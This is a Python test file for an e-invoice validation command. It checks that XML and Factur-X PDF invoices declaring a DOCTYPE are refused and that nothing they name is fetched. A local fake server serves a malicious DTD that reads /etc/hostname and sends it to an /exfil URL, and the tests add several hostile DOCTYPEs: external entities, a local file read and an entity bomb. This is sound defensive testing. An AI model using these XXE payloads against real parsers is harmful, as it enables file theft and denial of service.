"""XML is data, never a fetcher: an e-invoice whose DOCTYPE names an external DTD, file or
parameter entity is refused with one clear line, and nothing it names is ever fetched,
whether it arrives as an XML file or inside a Factur-X PDF."""

from __future__ import annotations

import io
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from pypdf import PdfWriter

from cli.main import cli
from domain.config import Settings
from domain.model.einvoice import Syntax
from domain.rendering.einvoice import write_einvoice
from tests.einvoice.test_rules import fixture
from tests.fakes._http import LocalServer

SHIPPED_RULES = Path(__file__).resolve().parents[2] / "domain" / "adapters" / "en16931"


class EvilDtdServer:
    """Serves a DTD that would send a local file's content to /exfil; keeps every path asked."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        seen = self.asked
        lock = threading.Lock()

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                with lock:
                    seen.append(self.path)
                body = (
                    '<!ENTITY % file SYSTEM "file:///etc/hostname">'
                    f"<!ENTITY % all \"<!ENTITY &#x25; send SYSTEM '{server.url}/exfil?d=%file;'>\">"
                    "%all;"
                ).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/xml-dtd")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        server = LocalServer(Handler)
        self.server = server
        self.url = server.url


@pytest.fixture
def evil() -> Iterator[EvilDtdServer]:
    served = EvilDtdServer()
    yield served
    served.server.close()


def _hostile_cii(doctype: str) -> bytes:
    xml = write_einvoice(fixture("short"), Settings(), Syntax.CII).xml
    declaration, _, rest = xml.partition(b"?>")
    return declaration + b"?>\n" + doctype.encode() + b"\n" + rest


def _doctypes(url: str) -> dict[str, str]:
    root = "rsm:CrossIndustryInvoice"
    return {
        "external DTD": f'<!DOCTYPE {root} SYSTEM "{url}/evil.dtd">',
        "parameter entity": (
            f'<!DOCTYPE {root} [<!ENTITY % dtd SYSTEM "{url}/evil.dtd"> %dtd; %send;]>'
        ),
        "external entity": f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{url}/x">]>',
        "local file": f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
        "entity bomb": (
            f'<!DOCTYPE {root} [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
        ),
    }


def _run(*args: str) -> Any:
    return CliRunner().invoke(cli, list(args), obj={"settings": Settings()})


def _factur_x_pdf(xml: bytes) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("factur-x.xml", xml)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize("kind", list(_doctypes("http://x")))
def test_an_xml_file_with_a_doctype_is_refused_and_nothing_it_names_is_fetched(
    tmp_path: Path, evil: EvilDtdServer, kind: str
) -> None:
    path = tmp_path / "hostile.xml"
    path.write_bytes(_hostile_cii(_doctypes(evil.url)[kind]))
    ran = _run("einvoice", "validate", str(path))
    assert ran.exit_code == 1, ran.output
    assert evil.asked == []
    assert ran.output.strip().splitlines() == [
        "Error: hostile.xml: the XML declares a DOCTYPE; e-invoices carry none, "
        "and no DTD or entity is ever read"
    ]
    assert ran.exception is None or isinstance(ran.exception, SystemExit)


@pytest.mark.parametrize("kind", ["external DTD", "parameter entity"])
def test_a_factur_x_pdf_whose_xml_has_a_doctype_is_refused_and_nothing_is_fetched(
    tmp_path: Path, evil: EvilDtdServer, kind: str
) -> None:
    path = tmp_path / "hostile.pdf"
    path.write_bytes(_factur_x_pdf(_hostile_cii(_doctypes(evil.url)[kind])))
    ran = _run("einvoice", "validate", str(path))
    assert ran.exit_code == 1, ran.output
    assert evil.asked == []
    assert "declares a DOCTYPE" in ran.output and "Traceback" not in ran.output


def test_a_factur_x_pdf_without_a_doctype_is_still_read_and_checked(tmp_path: Path) -> None:
    path = tmp_path / "fine.pdf"
    path.write_bytes(_factur_x_pdf(write_einvoice(fixture("short"), Settings(), Syntax.CII).xml))
    ran = _run("einvoice", "validate", str(path))
    assert ran.exit_code == 0, ran.output
    assert ran.output.strip() == "VALID: fine.pdf (cii): 0 fatal, 0 warning"


def test_rules_that_cannot_run_are_one_line_not_a_traceback(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    name = "EN16931-CII-validation.xslt"
    (rules / name).write_bytes((SHIPPED_RULES / name).read_bytes())
    (rules / "EN16931-UBL-validation.xslt").write_text("<not-a-stylesheet/>")
    path = tmp_path / "fine.xml"
    path.write_bytes(write_einvoice(fixture("short"), Settings(), Syntax.UBL).xml)
    settings = Settings.model_validate({"einvoice": {"rules_dir": str(rules)}})
    ran = CliRunner().invoke(cli, ["einvoice", "validate", str(path)], obj={"settings": settings})
    assert ran.exit_code == 1
    assert ran.output.startswith("Error: ") and len(ran.output.strip().splitlines()) == 1
    assert not isinstance(ran.exception, Exception) or isinstance(ran.exception, SystemExit)
